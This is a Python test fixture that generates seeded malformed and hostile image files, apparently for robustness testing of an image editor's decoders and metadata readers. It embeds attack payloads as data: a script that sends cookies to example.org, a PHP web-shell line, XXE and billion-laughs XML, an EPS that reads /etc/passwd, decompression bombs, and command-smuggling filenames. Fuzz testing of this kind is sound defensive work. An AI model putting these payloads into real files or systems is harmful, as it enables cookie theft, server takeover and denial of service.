"""Hostile and odd picture files, made by a seed: broken, lying, far too large, in disguise, or only unusual."""

import random
import struct
import zlib
from collections.abc import Callable
from functools import cache
from io import BytesIO

from PIL import Image, ImageCms

from editor_app.pictures.containers import MetadataBlocks, put_into_jpeg
from tests.pictures.drawn import a_picture, data_set, encoded, exif_with_orientation, jpeg, photoshop, xmp_packet
from tests.pictures.profiles import greyish_cmyk, wide_gamut

Maker = Callable[[random.Random], tuple[str, bytes]]


def odd_picture(number: int, seed: int = 2026) -> tuple[str, bytes]:
    """Return the file name and the bytes of one of them; the same for the same number and seed."""
    rng = random.Random(f"{seed}/{number}")
    make = _MAKERS[number % len(_MAKERS)]
    name, data = make(rng)
    return f"{make.__name__.strip('_')}-{name}", data


@cache
def _good(kind: str, width: int = 480, height: int = 320) -> bytes:
    image = Image.effect_noise((width, height), 40).convert("RGB")
    return encoded(image, kind)


def _any_good(rng: random.Random) -> tuple[str, bytes]:
    kind, end = rng.choice((("JPEG", "jpg"), ("PNG", "png"), ("WEBP", "webp"), ("TIFF", "tif"), ("GIF", "gif")))
    return f"a.{end}", _good(kind)


def _truncated(rng: random.Random) -> tuple[str, bytes]:
    name, data = _any_good(rng)
    return name, data[: rng.randrange(len(data))]


def _flipped(rng: random.Random) -> tuple[str, bytes]:
    name, data = _any_good(rng)
    broken = bytearray(data)
    within = rng.choice((64, 400, len(data)))
    for _ in range(rng.choice((1, 3, 20, 200))):
        broken[rng.randrange(min(within, len(data)))] = rng.randrange(256)
    return name, bytes(broken)


def _spliced(rng: random.Random) -> tuple[str, bytes]:
    name, data = _any_good(rng)
    _, other = _any_good(rng)
    at, to = rng.randrange(len(data)), rng.randrange(len(other))
    return name, data[:at] + other[to:]


def _lying_header(rng: random.Random) -> tuple[str, bytes]:
    width, height = (rng.choice((0, 1, 3, 9_999, 60_000, 65_535)) for _ in range(2))
    if rng.random() < 0.5:
        data = bytearray(_good("JPEG"))
        at = data.index(b"\xff\xc0")
        data[at + 5 : at + 9] = struct.pack(">HH", height, width)
        return "a.jpg", bytes(data)
    if rng.random() < 0.5:
        data = bytearray(_good("PNG"))
        width = rng.choice((width, 2**31 - 1, 2**32 - 1))
        data[8:33] = _chunk(b"IHDR", struct.pack(">II", width, height) + bytes(rng.choice(_PNG_KINDS)) + b"\0\0\0")
        return "a.png", bytes(data)
    data = bytearray(_good("WEBP"))
    data[26:30] = struct.pack("<HH", width & 0x3FFF, height & 0x3FFF)
    return "a.webp", bytes(data)


_PNG_KINDS = ((8, 2), (8, 6), (16, 2), (16, 0), (1, 0), (4, 3), (7, 9))


def _chunk(name: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + name + payload + struct.pack(">I", zlib.crc32(name + payload))


@cache
def _flat_png(width: int, height: int, depth: int, colours: int) -> bytes:
    """A valid PNG of one colour: a few kilobytes that decode to hundreds of megabytes."""
    samples = {0: 1, 2: 3, 4: 2, 6: 4}[colours]
    row = bytes(1 + width * samples * depth // 8)
    deflater = zlib.compressobj(9)
    packed = b"".join(deflater.compress(row) for _ in range(height)) + deflater.flush()
    header = struct.pack(">IIBBBBB", width, height, depth, colours, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", packed) + _chunk(b"IEND", b"")


def _bomb(rng: random.Random) -> tuple[str, bytes]:
    size = rng.choice(((30_000, 30_000), (7_700, 7_700), (5_000, 5_000), (60_000, 900)))
    depth, colours = rng.choice(((8, 2), (8, 6), (16, 6), (16, 0)))
    if size[0] * size[1] > 100_000_000:
        return "bomb.png", _flat_png(3_000, 30, depth, colours).replace(
            struct.pack(">II", 3_000, 30), struct.pack(">II", *size)
        )
    return "bomb.png", _flat_png(*size, depth, colours)


def _text_bomb(rng: random.Random) -> tuple[str, bytes]:
    packed = zlib.compress(bytes(60_000_000), 9)
    text = rng.choice(
        (
            (b"zTXt", b"Raw profile type iptc\0\0" + packed),
            (b"iTXt", b"XML:com.adobe.xmp\0\x01\0\0\0" + packed),
            (b"iCCP", b"icc\0\0" + packed),
            (b"zTXt", b"Comment\0\0" + packed),
        )
    )
    data = _good("PNG")
    return "a.png", data[:33] + _chunk(*text) + data[33:]


@cache
def _huge_jpeg(width: int, height: int, progressive: bool) -> bytes:
    return encoded(Image.new("RGB", (width, height), (120, 90, 60)), "JPEG", quality=30, progressive=progressive)


def _huge(rng: random.Random) -> tuple[str, bytes]:
    size = rng.choice(((9_000, 6_000), (12_000, 9_900), (65_000, 1_500), (300, 60_000)))
    return "huge.jpg", _huge_jpeg(*size, rng.random() < 0.3)


def _in_disguise(rng: random.Random) -> tuple[str, bytes]:
    script = b"<script>fetch('https://example.org/'+document.cookie)</script>"
    others = (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="x()">' + script + b"</svg>",
        b"<!DOCTYPE html><html>" + script + b"</html>",
        b"%PDF-1.7\n" + script,
        encoded(a_picture(), "BMP"),
        encoded(a_picture(), "AVIF"),
        encoded(a_picture(), "ICO"),
        encoded(a_picture(), "JPEG2000"),
        encoded(a_picture(), "PPM"),
        b"8BPS\0\1" + bytes(200),
        b"\0\0\0\x18ftypheic" + bytes(200),
        b"PK\x03\x04" + bytes(200),
        b"MZ" + bytes(200),
        b"%!PS-Adobe-3.0 EPSF\nsystemdict /run known {(/etc/passwd) run} if",
        b"II*\0" + bytes(60),
    )
    return rng.choice(("a.jpg", "a.png", "a.svg", "a.webp", "a.tif")), rng.choice(others)


def _polyglot(rng: random.Random) -> tuple[str, bytes]:
    tail = rng.choice((b"PK\x03\x04" + bytes(100), b"<?php system($_GET[0]); ?>", b"<script>x()</script>", b"%PDF-1.4"))
    name, data = _any_good(rng)
    if rng.random() < 0.5:
        return name, data + tail * rng.choice((1, 100_000))
    return "a.jpg", data[:2] + b"\xff\xfe" + struct.pack(">H", len(tail) + 2) + tail + _good("JPEG")[2:]


def _unusual(rng: random.Random) -> tuple[str, bytes]:
    """Rightful pictures few programs have met."""
    grey = Image.effect_noise((300, 200), 60)
    deep = grey.convert("I").point(lambda value: value * 250)
    moving = [a_picture(mode=mode).convert("RGB") for mode in ("L", "1", "RGB")]
    kind = rng.randrange(14)
    match kind:
        case 0:
            return "cmyk.jpg", encoded(a_picture(mode="CMYK"), "JPEG", icc_profile=greyish_cmyk())
        case 1:
            return "cmyk.tif", encoded(a_picture(mode="CMYK"), "TIFF")
        case 2:
            return "deep.png", encoded(deep.convert("I;16"), "PNG")
        case 3:
            return "deep.tif", encoded(deep.convert(rng.choice(("I;16", "I", "F"))), "TIFF")
        case 4:
            return "one-bit.tif", encoded(grey.convert("1"), "TIFF", compression="group4")
        case 5:
            return "clear.png", encoded(a_picture(mode="P"), "PNG", transparency=0)
        case 6:
            return "moving.png", encoded(moving[0], "PNG", save_all=True, append_images=moving[1:])
        case 7:
            return "moving.webp", encoded(moving[0], "WEBP", save_all=True, append_images=moving * 20)
        case 8:
            return "pages.tif", encoded(moving[0], "TIFF", save_all=True, append_images=moving[1:])
        case 9:
            return "wide.jpg", jpeg(icc_profile=wide_gamut(), progressive=True)
        case 10:
            return "lab.tif", encoded(a_picture(mode="LAB"), "TIFF")
        case 11:
            return "restarts.jpg", encoded(grey, "JPEG", restart_marker_blocks=1)
        case 12:
            lossless = encoded(a_picture(mode="RGBA"), "WEBP", lossless=True)
            return "lossless.webp", lossless
        case _:
            packing = rng.choice(("tiff_lzw", "tiff_adobe_deflate"))
            return "packed.tif", encoded(a_picture(), "TIFF", compression=packing)


def _odd_name(rng: random.Random) -> tuple[str, bytes]:
    names = (
        *("\u202egpj.exe", "Նկար № 1.jpg", "ფოტო.jpg", "صورة.jpg", "🙂.jpg", ".jpg", "...", " a .jpg", "a\nb.jpg"),
        *("CON.jpg", "a" * 200 + ".jpg", "%00.jpg", "a;rm -rf.jpg", "-rf.jpg", "'\"<script>.jpg", "é.jpg"),
    )
    return rng.choice(names), _good("JPEG")


def _bad_profile(rng: random.Random) -> tuple[str, bytes]:
    good = ImageCms.ImageCmsProfile(ImageCms.createProfile(rng.choice(("sRGB", "LAB", "XYZ")))).tobytes()
    profile = bytearray(rng.choice((good, wide_gamut(), greyish_cmyk())))
    match rng.randrange(5):
        case 0:
            profile = profile[: rng.randrange(len(profile))]
        case 1:
            for _ in range(40):
                profile[rng.randrange(len(profile))] = rng.randrange(256)
        case 2:
            profile = bytearray(rng.randbytes(3_000))
        case 3:
            profile[128:132] = b"\xff\xff\xff\xff"  # how many tags there are
        case _:
            profile += bytes(300_000)  # several segments
    mode = rng.choice(("RGB", "L", "CMYK"))
    data = encoded(a_picture(mode=mode), "JPEG", icc_profile=bytes(profile))
    if rng.random() < 0.3:
        data = data.replace(b"ICC_PROFILE\0\x01", b"ICC_PROFILE\0\xff")
    return "a.jpg", data


def _bad_exif(rng: random.Random) -> tuple[str, bytes]:
    order = rng.choice((">", "<"))
    mark = b"MM\0*" if order == ">" else b"II*\0"
    tags = (0x010E, 0x0112, 0x013B, 0x8298, 0x8769, 0x8825, 0x9003, 0x02BC, 0x927C, rng.randrange(65_536))
    entries = b"".join(
        struct.pack(
            order + "HHII",
            rng.choice(tags),
            rng.choice((0, 2, 3, 4, 5, 7, 13, 999)),
            rng.choice((0, 1, 2, 20, 65_535, 2**31, 2**32 - 1)),
            rng.choice((0, 4, 8, 10, 200, 2**31, 2**32 - 1)),
        )
        for _ in range(rng.randrange(1, 40))
    )
    count = rng.choice((len(entries) // 12, 0, 65_535))
    tiff = mark + struct.pack(order + "IH", rng.choice((8, 8, 8, 0, 4, 2**32 - 1)), count) + entries
    tiff += struct.pack(order + "I", rng.choice((0, 8, 2**32 - 1))) + rng.randbytes(rng.randrange(300))
    if rng.random() < 0.3:
        tiff = exif_with_orientation(rng.choice((0, 2, 6, 9, 65_535)))
    if rng.random() < 0.2:
        return "a.webp", encoded(a_picture(), "WEBP", exif=b"Exif\0\0" + tiff[:60_000])
    return "a.jpg", jpeg(MetadataBlocks(exif=tiff[:60_000]))


def _bad_xmp(rng: random.Random) -> tuple[str, bytes]:
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    packets = (
        f'<!DOCTYPE x [<!ENTITY l0 "lol">{lol}]><x>&l9;</x>'.encode(),
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        b'<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><x/>',
        b"<a>" * 100_000,
        b"<a>" * 20_000 + b"</a>" * 20_000,
        xmp_packet("<dc:subject><rdf:Bag>" + "<rdf:li>tag</rdf:li>" * 50_000 + "</rdf:Bag></dc:subject>"),
        xmp_packet("<dc:description>" + "x" * 3_000_000 + "</dc:description>"),
        xmp_packet("", 'photoshop:DateCreated="9999-99-99T99:99"'),
        xmp_packet("", 'photoshop:Credit="&#xFFFF;&#0;"'),
        xmp_packet("", 'dc:description="\u202e\u0000\u0007"'),
        xmp_packet("<dc:title/>").decode().encode("utf-16"),
        b"\xff\xfe" + rng.randbytes(5_000),
        xmp_packet("", " ".join(f'xmlns:n{n}="urn:{n}" n{n}:a="b"' for n in range(5_000))),
    )
    packet = rng.choice(packets)
    if len(packet) < 65_000 and rng.random() < 0.5:
        return "a.jpg", jpeg(MetadataBlocks(xmp=packet))
    return "a.webp", encoded(a_picture(), "WEBP", xmp=packet)


def _bad_iim(rng: random.Random) -> tuple[str, bytes]:
    record = b"".join(data_set(rng.randrange(256), rng.randbytes(rng.randrange(60))) for _ in range(rng.randrange(300)))
    records = (
        record,
        b"\x1c\x02\x78\x80\x04\xff\xff\xff\xff" + b"x" * 100,
        b"\x1c\x02\x78\x80\x00" * 500,
        data_set(120, data_set(120, data_set(120, b"nested"))) * 50,
        data_set(90, b"\x1b%G", record=1) + data_set(120, b"\xff\xfe\xe2\x80") * 3,
        data_set(55, b"99999999") + data_set(37, b"\0\0\0\0\0\0\0\0"),
        record[: rng.randrange(len(record) + 1)],
    )
    resources = photoshop(rng.choice(records))
    if rng.random() < 0.3:
        resources = b"8BIM" + rng.randbytes(2) + b"\xff" + resources
    data = jpeg(MetadataBlocks(iim=resources[:60_000]))
    return "a.jpg", data


def _tiny(rng: random.Random) -> tuple[str, bytes]:
    wholes = (
        b"",
        b"\xff",
        b"\xff\xd8\xff",
        b"\xff\xd8\xff\xd9",
        b"\x89PNG\r\n\x1a\n",
        b"RIFF\x04\0\0\0WEBP",
        b"MM\0*",
        rng.randbytes(rng.randrange(300)),
        b"\xff\xd8\xff" + rng.randbytes(3_000),
        encoded(Image.new("RGB", (1, 1)), "JPEG"),
        encoded(Image.new("RGB", (1, 1)), "PNG"),
        encoded(Image.new("L", (1, 20_000)), "PNG"),
        encoded(Image.new("L", (60_000, 1)), "JPEG"),
    )
    return "tiny.jpg", rng.choice(wholes)


def _stalling(rng: random.Random) -> tuple[str, bytes]:
    """JPEGs that make a decoder or a reader of segments go on and on."""
    data = _good("JPEG")
    match rng.randrange(6):
        case 0:
            return "scans.jpg", _many_scans(rng.choice((300, 3_000)))
        case 1:
            return "fill.jpg", data[:2] + b"\xff" * 3_000_000 + data[2:]
        case 2:
            return "comments.jpg", data[:2] + (b"\xff\xfe\0\x10" + bytes(14)) * 200_000 + data[2:]
        case 3:
            return "blocks.jpg", data[:2] + (b"\xff\xe1\0\x0aExif\0\0MM") * 100_000 + data[2:]
        case 4:
            part = b"Photoshop 3.0\0" + b"8BIM\x04\x04\0\0\0\0\0\0"
            part = b"\xff\xed" + struct.pack(">H", len(part) + 2) + part
            return "resources.jpg", data[:2] + part * 50_000 + data[2:]
        case _:
            return "arithmetic.jpg", data.replace(b"\xff\xc0", rng.choice((b"\xff\xc9", b"\xff\xc3", b"\xff\xc1")), 1)


@cache
def _many_scans(count: int) -> bytes:
    """A progressive JPEG whose last scan comes again and again."""
    data = encoded(Image.effect_noise((2_000, 1_500), 40), "JPEG", progressive=True, quality=30)
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last : last + 40] * count + data[last:]


def _all_at_once(rng: random.Random) -> tuple[str, bytes]:
    """Metadata of every standard, broken in one file of another name."""
    return rng.choice(("a.png", "a.exe", "a")), put_into_jpeg(_good("JPEG"), _three_wrong_blocks(_bad_exif(rng)[1]))


def _three_wrong_blocks(data: bytes) -> MetadataBlocks:
    """The raw EXIF of a JPEG beside an XMP and an IPTC that are no such thing."""
    return MetadataBlocks(exif=data[30:3_000], xmp=b"<x:xmpmeta" * 500, iim=b"8BIM\x04\x04" + data[:2_000])


def _round_trip(rng: random.Random) -> tuple[str, bytes]:
    buffer = BytesIO(_good("JPEG"))
    with Image.open(buffer) as image:
        kind = rng.choice(("MPO", "JPEG", "TIFF", "WEBP"))
        return "again.jpg", encoded(image.convert("RGB"), kind, quality=rng.randrange(1, 100))


_MAKERS: tuple[Maker, ...] = (
    *(_truncated, _flipped, _lying_header, _unusual, _bad_exif, _in_disguise, _truncated, _flipped, _bad_xmp, _bad_iim),
    *(_odd_name, _bad_profile, _spliced, _tiny, _stalling, _bomb, _polyglot, _flipped, _unusual, _truncated),
    *(_text_bomb, _bad_exif, _all_at_once, _huge, _round_trip),
)
